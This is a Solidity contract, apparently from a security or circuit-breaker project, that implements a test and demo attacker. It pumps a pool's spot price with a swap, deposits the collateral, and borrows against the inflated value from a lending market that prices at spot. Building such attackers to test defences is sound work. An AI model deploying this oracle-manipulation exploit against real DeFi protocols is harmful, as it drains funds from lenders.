// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "../breakers/Transfers.sol";
import {IDemoAmm} from "../demo/DemoAmm.sol";
import {ILendingMarket} from "./FlashLoanOracleAttacker.sol";

/// @title SpotPriceBorrower
/// @notice Test and demo attacker of a lending market that prices collateral at a pool's spot
/// price, with capital of its own (no flash loan): buy collateral with all its debt tokens to pump
/// the price, deposit all its collateral, and borrow as much as the inflated price allows. The
/// market gives out more than the collateral it takes is worth at the price before the call.
contract SpotPriceBorrower {
    address public immutable owner;
    IDemoAmm public immutable amm;
    ILendingMarket public immutable market;
    address public immutable collateralToken;
    address public immutable debtToken;

    error NotOwner(address caller);

    constructor(IDemoAmm amm_, ILendingMarket market_, address collateralToken_, address debtToken_) {
        owner = msg.sender;
        amm = amm_;
        market = market_;
        collateralToken = collateralToken_;
        debtToken = debtToken_;
    }

    /// @notice Pumps, deposits and borrows in one call. Owner only.
    function strike() external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        uint256 pump = IERC20(debtToken).balanceOf(address(this));
        IERC20(debtToken).approve(address(amm), pump);
        amm.swap(debtToken, pump, 0, address(this));
        uint256 collateral = IERC20(collateralToken).balanceOf(address(this));
        IERC20(collateralToken).approve(address(market), collateral);
        market.depositCollateral(collateral);
        uint256 amount = _min(market.maxBorrow(address(this)), market.liquidity());
        market.borrow(_min(amount, market.availableOutflow(debtToken)));
    }

    /// @notice Sends this contract's balance of `token` to the owner. Owner only.
    function withdraw(address token) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        IERC20(token).transfer(owner, IERC20(token).balanceOf(address(this)));
    }

    function _min(uint256 a, uint256 b) private pure returns (uint256) {
        return a < b ? a : b;
    }
}
